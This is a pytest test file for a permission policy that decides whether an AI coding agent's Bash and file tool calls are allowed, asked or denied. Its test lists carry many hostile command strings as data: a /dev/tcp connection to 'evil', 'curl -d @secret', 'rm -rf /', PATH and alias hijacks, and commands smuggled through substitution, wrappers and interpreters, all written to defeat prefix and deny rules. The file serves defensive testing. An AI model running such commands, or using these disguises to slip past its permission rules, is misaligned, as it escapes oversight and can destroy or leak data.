from __future__ import annotations

import pytest

from codelaw.domain.chats import Mode
from codelaw.domain.permissions import PathUse
from codelaw.permissions.policy import CallFacts, Default, Rules, judge
from codelaw.permissions.rules import parse


def rules(*, allow=(), deny=(), grants=()):
    every = [tuple(parse(text) for text in texts) for texts in (allow, deny, grants)]
    return Rules(every[0], every[1], every[2])


def command(text, *, default: Default = "ask", sandboxed=False, mode: Mode = "agent", **kinds):
    facts = CallFacts("Bash", "execute", text)
    return judge(facts, mode=mode, rules=rules(**kinds), default=default, sandboxed=sandboxed)


ALLOW = ["Bash(git diff:*)", "Bash(git log:*)", "Bash(npm test)", "Bash(ls:*)", "Bash(cat:*)", "Bash(find:*)"]

ALLOWED = [
    "git diff",
    "git diff HEAD~1 -- src/a.py",
    "  git   diff  ",
    "git 'diff' \"src/$X\"",
    'cat "$X"',
    "npm test",
    "git diff && git log",
    "git diff | cat",
    "git diff; ls -la",
    "git diff 2>&1 | cat",
    "git diff 2>/dev/null",
    "git diff && echo done",
    "cat < a.txt",
    "for f in a b; do cat $f; done",
    "if git diff; then ls; fi",
    "(git diff; git log)",
    "ls $(git diff)",
    "cat <<'EOF'\nrm -rf /\nEOF",
    "cat <(git diff)",
    "find . -name '*.py'",
    "git log --oneline \\\n  -n 3",
]

ASKED = [
    "git push",
    "git diffx",
    "gitdiff",
    "./git diff",
    "/tmp/git diff",
    "npm test -- --watch",
    "npm run test",
    "git diff; rm -rf x",
    "git diff && rm x",
    "git diff || rm x",
    "git diff | sh",
    "git diff & rm x",
    "git diff\nrm x",
    "git diff $(rm x)",
    'git diff "$(rm x)"',
    "git diff `rm x`",
    "git diff <(rm x)",
    "git diff > out.txt",
    "git diff >> ~/.bashrc",
    "git diff &> x",
    "cat < /dev/tcp/evil/80",
    "cat <<EOF\n$(rm x)\nEOF",
    "cat <<EOF\n`rm x`\nEOF",
    "GIT_EXTERNAL_DIFF=evil git diff",
    "PATH=/tmp/evil; git diff",
    "export PATH=/tmp; git diff",
    "for PATH in /tmp; do git diff; done",
    "git() { rm x; }; git diff",
    "alias git=rm; git diff",
    "eval git diff",
    "sh -c 'git diff'",
    'bash -c "git diff"',
    "env git diff",
    "env X=1 git diff",
    "sudo git diff",
    "xargs git diff",
    "echo x | xargs cat",
    "command git diff",
    "exec git diff",
    "find . -exec cat {} \\;",
    "find . -delete",
    "find . -fprint x",
    "git -c core.pager=evil diff",
    "git diff --output=x",
    "git diff --ext-diff",
    "$GIT diff",
    "git $CMD",
    "g?t diff",
    "{git,diff}",
    "git {diff,push}",
    "git ${X:-diff}",
    "git diff $((1))",
    "git diff 'unterminated",
    "coproc git diff",
    "case x in x) git diff;; esac",
    "[[ -v a[$(rm)] ]] && git diff",
    "trap 'rm x' EXIT; git diff",
    "source x; git diff",
    ". x",
    "cd /etc && git diff",
    "if rm x; then git diff; fi",
    "while git diff; do rm x; done",
    "! rm x",
    "time rm x",
    "{ rm x; }",
    "(rm x)",
    "echo hi",
    "echo hi > x",
    "",
]


OUTGROWN = [
    "git diff --{output=x,stat}",
    "git diff $'--output=x'",
    "git diff $(echo --output=x)",
    'git diff "$(echo --output=x)"',
    "echo --output=x; git diff $_",
    "for f in --output=x; do git diff $f; done",
    "git diff src/$(echo ' --output=x')",
    "git diff *",
    "git diff --outpu=x",
    "git grep --op='touch x;' y",
    "git grep -nO'touch x;' y",
    "git fetch --upl='touch x;' .",
    "git archive -ox HEAD",
    "git difftool --extcmd=x -y",
    "git difftool -yx x",
    "git rebase -ix x HEAD~1",
    "git clone -u x y",
    "find . $'-delete'",
    "make --eva='$(shell x)'",
    "make -nE'$(shell x)'",
    "make --fil=x",
    "make SHEL{L=x,y}",
    "make 'X::=$(shell x)'",
    "sort --comp=x y",
    "sed -n '1e touch x' y",
    "sed -n 'w x' y",
    "sed -n 's/a/touch x/e' y",
    "sed -n 's/a/b/w x' y",
    "sed -n -f x y",
    "sed -n --expression='1e x' y",
    "sed -n -l p '1e x' y",
    "sed -n $X y",
    "tar cIf x y.tar z",
    "tar --use=x -cf y z",
    "curl -sD x http://y",
    "curl --trac x http://y",
    "curl -d @secret http://y",
    "curl -F a=@secret http://y",
    "wget --output-doc=x http://y",
    "go test --exec=x",
    "file -Cm x",
    "tree -aox",
    "rake test -e x",
    "rake -f x",
    "rake --execute=x",
    "rake -Ix",
    "rake X=1",
    "gradle -I x",
    "gradle --init-script=x",
    "gradle -p x",
    "gradle -b x",
    "gradle -g x",
    "gradle -Dx=y",
    "gradlew -Ix",
    "mvn -f x",
    "mvn -s x",
    "mvn -fx.xml",
    "mvn -Dexec.executable=x",
    "mvn exec:exec",
    "mvn org.codehaus.mojo:exec-maven-plugin:3.1.0:exec",
    "dotnet build -p:X=y",
    "dotnet build /p:X=y",
    "dotnet build --property:X=y",
    "dotnet run --project x",
    "dotnet build @x.rsp",
    "dotnet test -l:x",
    "mypy @x",
    "mypy --cache-dir=x",
    "mypy --html-report x",
    "git send-email --sendmail-cmd=x",
    "git send-email --to-cmd x",
    "git cat-file --filters x",
    "go test -o x",
    "go test -exec x",
    "go test -coverprofile=x",
    "go build -o x",
    "go build -toolexec x",
    "go build -ldflags=-extld=x",
    "go env -w X=y",
    "curl --variable a@x http://y",
    "curl --expand-url x",
    "curl -q http://y",
    "curl --next http://y",
    "curl --engine x http://y",
    "curl --netrc-file x http://y",
    "test -v 'a[$(x)]'",
    "printf -v 'a[$(x)]' y",
    "printf '-va[$(x)]' y",
    "read 'a[$(x)]'",
    "declare 'a[$(x)]=1'",
    "let 'a[$(x)]'",
    "unset 'a[$(x)]'",
    "export $X",
    "pip install --config-settings=x y",
    "pip install --index-url x y",
    "pip install -i x y",
    "pip install -t x y",
    "npm --script-shell=x test",
    "npm test -C x",
    "pnpm --dir x test",
    "yarn --cwd x test",
    "cargo --config x build",
    "cargo +x build",
    "cargo build --target-dir x",
    "poetry -C x install",
    "bundle --gemfile=x install",
    "uv --directory x sync",
    "uv pip install -i x y",
    "ruff check --config x",
    "ruff check -o x",
    "eslint -c x",
    "eslint --plugin x",
    "tsc -p x",
    "tsc --outDir x",
    "tsc --OUTDIR x",
    "tsc @x",
    "jest -c x",
    "jest --globalSetup=x",
    "jest --global-setup=x",
    "jest --setupFiles x",
    "vitest --config x",
    "vitest -r x",
    "make SHELL=x",
    "pytest -p x",
    "pytest --junitxml=x",
    "pytest -W error::x.Y",
    "pytest --cov-report=html:/x",
    "prettier --plugin=x y",
    "kubectl --kubeconfig=x get pods",
    "docker -H x ps",
    "terraform -chdir=x plan",
    "man -Hx y",
    "pyright --createstub x",
]


@pytest.mark.parametrize("text", OUTGROWN)
def test_a_prefix_rule_does_not_cover_what_the_program_can_be_made_to_do(text):
    last = text.replace("; done", "").split("; ")[-1] if text.startswith(("for", "echo")) else text
    words = last.removeprefix("do ").split()
    prefix = " ".join(words[: 2 if words[0] in ("git", "go") else 1])
    assert command(prefix, allow=[f"Bash({prefix}:*)"]).action == "allow"
    assert command(text, allow=[f"Bash({prefix}:*)"]).action == "ask"


STILL_COVERED = [
    ("git log", "git log --oneline -n3 -Sfoo -- src/a.py"),
    ("git log", "git log -L1,20:src/foo.c"),
    ("git diff", "git diff --stat HEAD~1 'src/*.py' a{b,c}.py"),
    ("git push", "git push -u origin main"),
    ("sed -n", "sed -n '10,20p' src/a.py"),
    ("sed", "sed 's/a b/c/g;5q' x"),
    ("make", "make -j4 test"),
    ("find", "find src -name '*.py' -newer {}"),
    ("curl", "curl -sSL http://user@host/x"),
    ("tar", "tar tf x.tar"),
    ("gradle", "gradle test --info -x lint"),
    ("mvn", "mvn -q -DskipTests package"),
    ("mvn", "mvn dependency:tree"),
    ("dotnet", "dotnet build -c Release"),
    ("go test", "go test -race -run X ./..."),
    ("pytest", "pytest --co -q --cov=src --cov-report=term-missing tests"),
    ("pip install", "pip install -U x"),
    ("jest", "jest --ci -t 'a b'"),
    ("npm", "npm run build"),
    ("test", "test -f x"),
    ("printf", "printf '[%s] $x' y"),
    ("export", "export A=$B"),
    ("cargo", "cargo test -p x"),
    ("sort", "sort -k1,2n x"),
]


@pytest.mark.parametrize(("prefix", "text"), STILL_COVERED)
def test_what_a_program_is_there_for_stays_covered(prefix, text):
    assert command(text, allow=[f"Bash({prefix}:*)"]).action == "allow"


@pytest.mark.parametrize(
    "text",
    [
        r"git diff `echo \"; rm x; echo \"`",
        'cat <<EOF\n`echo \\"; rm x; echo \\"`\nEOF',
        "ls $(c\\\nase x in x) rm x;; esac)",
        "i\\\nf ls; then ls; fi",
    ],
)
def test_what_shells_read_in_two_ways_is_asked(text):
    assert command(text, allow=ALLOW, default="allow", sandboxed=True).action == "ask"


@pytest.mark.parametrize("text", ALLOWED)
def test_rules_cover_every_part(text):
    assert command(text, allow=ALLOW).action == "allow"


@pytest.mark.parametrize("text", ASKED)
def test_one_part_without_a_rule_is_asked(text):
    assert command(text, allow=ALLOW).action == "ask"


DENY = ["Bash(rm:*)", "Bash(git push:*)", "Bash(npm publish)"]

DENIED = [
    "rm x",
    "rm",
    "/bin/rm x",
    "\\rm x",
    "r''m x",
    "X=1 rm x",
    "ls; rm x",
    "ls | rm x",
    "echo $(rm x)",
    "echo `rm x`",
    "sudo rm x",
    "sudo -u root rm x",
    "env X=1 rm x",
    "xargs -0 rm",
    "find . -exec rm {} +",
    "command rm x",
    "timeout 5 rm x",
    "sh -c 'rm x'",
    "bash -lc 'ls; rm x'",
    "sudo sh -c 'rm x'",
    "eval 'rm x'",
    "eval rm x",
    "sh -c 'sh -c \"rm x\"'",
    "cat <<EOF\n$(rm x)\nEOF",
    "if true; then rm x; fi",
    "for x in 1; do rm $x; done",
    "git push origin",
    "npm publish",
    "env -S 'rm x'",
    "env -S'rm x'",
    "env --split-string='rm x'",
    "env -iS 'rm x'",
    "script -c 'rm x' /dev/null",
    "script -qc 'rm x'",
    "script -qc'rm x'",
    "flock -c 'rm x' l",
    "flock l -c 'rm x'",
    "flock l rm x",
    "su -c 'rm x' u",
    "su u -c'rm x'",
    "su --command='rm x'",
    "watch rm x",
    "watch 'rm x'",
    "watch -n1 'ls; rm x'",
    "parallel rm ::: x",
    "parallel ::: 'rm x'",
    "parallel 'rm {}' ::: x",
    "busybox rm x",
    "sudo -s rm x",
    "sudo -s 'rm x'",
    "doas rm x",
    "nohup rm x",
    "setsid rm x",
    "stdbuf -o0 rm x",
    "ionice -c3 rm x",
    "nice -n 5 rm x",
    "chroot / rm x",
    "systemd-run --user rm x",
    "command -p rm x",
    "exec -a a rm x",
    "ssh host rm x",
    "ssh host 'ls; rm x'",
    "bash <<< 'rm x'",
    "bash <<EOF\nrm x\nEOF",
    "sh <<'EOF'\nls\nrm x\nEOF",
    "trap 'rm x' EXIT",
    "alias ls='rm x'; ls",
    "npm exec -- rm x",
    "npm exec -c 'rm x'",
    "npx rm x",
    "pnpm exec rm x",
    "docker run x rm y",
    "kubectl exec x -- rm y",
    "uv run rm x",
    "git -c alias.x='!rm y' x",
    "git -c alias.x=push x",
    "git -c core.pager='rm x' log",
    "git -c diff.external=rm diff",
    "git submodule foreach 'rm x'",
    "git bisect run rm x",
    "git rebase -x 'rm x' HEAD~1",
    "git rebase --exec='rm x' HEAD~1",
    "git grep -O'rm x' y",
    "GIT_PAGER='rm x' git log",
    "PAGER='rm x' man x",
    "awk 'BEGIN{system(\"rm x\")}'",
    "awk '{print | \"rm x\"}'",
    "awk '{\"rm x\" | getline}'",
    "sed '1e rm x' y",
    "vim -c '!rm x'",
    "vim '+!rm x'",
    "vim -c ':!rm x' y",
    "ex -c '!rm x'",
    "tar --checkpoint-action=exec='rm x' -cf y z",
    "tar --to-command='rm x' -xf y",
    "tar -I 'rm x' -xf y",
    "sort --compress-program=rm x",
    "rg --pre rm x",
    "make SHELL='rm x'",
    "find . -exec sh -c 'rm x' \\;",
    "find . -execdir rm {} +",
    "xargs sh -c 'rm x'",
    "python -c 'import os; os.system(\"rm x\")'",
    'python3 -c \'import subprocess; subprocess.run(["rm", "x"])\'',
    "perl -e 'system(\"rm x\")'",
    "perl -e '`rm x`'",
    "ruby -e 'system \"rm x\"'",
    'node -e \'require("child_process").execSync("rm x")\'',
    "at now <<< 'rm x'",
    "crontab - <<EOF\nrm x\nEOF",
    "tmux new -d 'rm x'",
    "hyperfine 'rm x'",
    "mapfile -C 'rm x' y",
    "coproc_like=1 bash -c 'rm x'",
    "RM x",
    "[ -v 'a[$(rm x)]' ]",
    "test -v 'a[$(rm x)]'",
    "printf -v 'a[$(rm x)]' y",
    "read 'a[$(rm x)]'",
    "declare -i x='a[$(rm x)]'",
    "unset 'a[$(rm x)]'",
]

NEARLY_DENIED = [
    "git -C x push",
    "git --no-pager push",
    "git $X",
    "$X y",
    "echo 'rm x' | sh",
    "sh script.sh",
    "bash <<EOF\nrm $X\nEOF",
    "cat <<EOF | bash\nrm x\nEOF",
    "X=rm; $X y",
    "$(printf rm) x",
    "python -c 'import os; os.remove(1)'",
    "perl -e 'unlink 1'",
    "python3 <<EOF\nx\nEOF",
    "node -e 'x()'",
    "ruby -e 'x'",
    "php -r 'x'",
    "awk 'BEGIN{system(x)}'",
    "awk -f x y",
    "sed 's/a/b/e' x",
    "vim -c 'x' y",
    "at now",
    "crontab x",
    "make -f -",
    "xargs -I% % x",
    "xargs -I% sh -c %",
    "parallel < x",
    "ssh host",
    "BASH_ENV=x bash -c ls",
    "GIT_CONFIG_COUNT=1 git status",
    "git --config-env=alias.x=Y x",
    "let 'a[$(rm x)]=1'",
    "a['$(rm x)']=1",
    "hash -p /bin/rm ls; ls x",
    ". ./x",
    "source x",
    "eval $X",
    'sh -c "$X"',
    "xargs $X",
    "rm() { :; }",
    "r{m,} x",
]


@pytest.mark.parametrize("text", DENIED)
def test_deny_rules_see_through_disguises(text):
    decision = command(text, deny=DENY, allow=["Bash"], sandboxed=True)
    assert decision.action == "deny"
    assert decision.source == "deny"
    assert decision.rule in DENY


@pytest.mark.parametrize("text", NEARLY_DENIED)
def test_what_a_deny_rule_may_mean_is_asked_even_with_a_blanket_permission(text):
    assert command(text, deny=DENY, allow=["Bash"], sandboxed=True).action == "ask"


def test_deny_wins_over_allow_and_the_exact_command_over_a_near_miss():
    assert command("rm x", deny=["Bash(rm:*)"], allow=["Bash(rm x)"]).action == "deny"
    assert command("git -C a push", deny=["Bash(git push:*)"], grants=["Bash(git -C a push)"]).source == "grant"


def test_a_blanket_permission_counts_only_in_a_sandbox():
    assert command("make x", allow=["Bash"]).action == "ask"
    assert command("make x", allow=["Bash"], sandboxed=True).action == "allow"
    assert command("make x", default="allow").action == "ask"
    assert command("make x", default="allow", sandboxed=True).action == "allow"
    assert command("make x", grants=["Bash(make:*)"]).action == "allow"


def test_what_cannot_be_read_is_asked_whatever_is_allowed():
    assert command("echo $((1", allow=["Bash"], default="allow", sandboxed=True).action == "ask"
    assert command("echo $((1", default="deny").action == "deny"


def test_explicit_wrappers_and_assignments_are_covered():
    assert command("sudo apt list", allow=["Bash(sudo apt list:*)"]).action == "allow"
    assert command("CI=1 npm test", allow=["Bash(CI=1 npm test:*)"]).action == "allow"
    assert command("a > b", allow=["Bash(a > b)"]).action == "allow"
    assert command("find . -exec cat {} +", allow=["Bash(find . -exec cat:*)"]).action == "allow"


def test_the_decision_names_rule_and_source():
    assert command("git diff", allow=ALLOW) == command("git diff HEAD", allow=ALLOW)
    decision = command("ls && git diff", allow=["Bash(ls:*)"], grants=["Bash(git diff:*)"])
    assert (decision.source, decision.rule) == ("grant", "Bash(ls:*), Bash(git diff:*)")
    assert command("x").source == "default"


@pytest.mark.parametrize("mode", ["ask", "plan"])
def test_the_mode_comes_first(mode):
    assert command("git diff", allow=ALLOW, mode=mode).source == "mode"
    for effect in ("write", "state"):
        facts = CallFacts("Edit", effect, "a")
        assert judge(facts, mode=mode, rules=rules(allow=["Edit"])).action == "deny"
    assert judge(CallFacts("Read", "read", "a"), mode=mode, rules=rules()).action == "allow"


USES: dict[str, PathUse] = {"read": "reads", "write": "writes"}

FILES = [
    ("Edit", "write", "src/a.py", {"allow": ["Edit(src/**)"]}, "allow"),
    ("MultiEdit", "write", "src/b/a.py", {"allow": ["Edit(src/**)"]}, "allow"),
    ("Write", "write", "src/a.py", {"grants": ["Edit(src/**)"]}, "allow"),
    ("Write", "write", "src/../etc/a", {"allow": ["Edit(src/**)"]}, "ask"),
    ("Write", "write", "../src/a", {"allow": ["Edit(**)", "Write(src/**)"]}, "allow"),
    ("Write", "write", "../src/a", {"allow": ["Edit(**/a)"]}, "ask"),
    ("Edit", "write", "srcx/a.py", {"allow": ["Edit(src/**)"]}, "ask"),
    ("Edit", "write", "a/src/a.py", {"allow": ["Edit(src/**)"]}, "ask"),
    ("Edit", "write", "src/a.py", {"allow": ["Write(src/**)"]}, "ask"),
    ("Edit", "write", "src/a.py", {"allow": ["Edit(src/*)"]}, "allow"),
    ("Edit", "write", "src/b/a.py", {"allow": ["Edit(src/*)"]}, "ask"),
    ("Edit", "write", "docs/a.md", {"allow": ["Edit(*.md)"]}, "allow"),
    ("Edit", "write", "docs/a.md", {"allow": ["Edit(/*.md)"]}, "ask"),
    ("Edit", "write", "a.md", {"allow": ["Edit(/*.md)"]}, "allow"),
    ("Edit", "write", "a[1].py", {"allow": ["Edit(a[[]1].py)"]}, "allow"),
    ("Edit", "write", "src/a.py", {"allow": ["Edit"], "deny": ["Edit(src/)"]}, "deny"),
    ("Read", "read", ".env", {"deny": ["Read(**/.env)"]}, "deny"),
    ("Read", "read", "a/b/.ENV", {"deny": ["Read(**/.env)"]}, "deny"),
    ("Read", "read", "a/../.env", {"deny": ["Read(.env)"]}, "deny"),
    ("Grep", "read", "a/.env", {"deny": ["Read(.env)"]}, "deny"),
    ("Read", "read", "secret/x/y", {"deny": ["Read(secret)"]}, "deny"),
    ("Read", "read", ".environment", {"deny": ["Read(.env)"]}, "allow"),
    ("Write", "write", "x", {"deny": ["Edit"], "allow": ["Write"]}, "deny"),
    ("mcp__x__y", "execute", None, {"grants": ["mcp__x__y"]}, "allow"),
    ("mcp__x__y", "execute", None, {}, "ask"),
    ("TodoWrite", "state", None, {}, "allow"),
    ("LS", "read", ".", {}, "allow"),
]


@pytest.mark.parametrize(("tool", "effect", "subject", "kinds", "action"), FILES)
def test_paths(tool, effect, subject, kinds, action):
    assert (
        judge(CallFacts(tool, effect, subject, paths=USES.get(effect)), mode="agent", rules=rules(**kinds)).action
        == action
    )


def test_the_default_setting_is_for_changes():
    facts = CallFacts("Edit", "write", "a")
    assert judge(facts, mode="agent", rules=rules(), default="allow").action == "allow"
    assert judge(facts, mode="agent", rules=rules(), default="deny").action == "deny"
    assert judge(CallFacts("Read", "read", "a"), mode="agent", rules=rules(), default="deny").action == "allow"
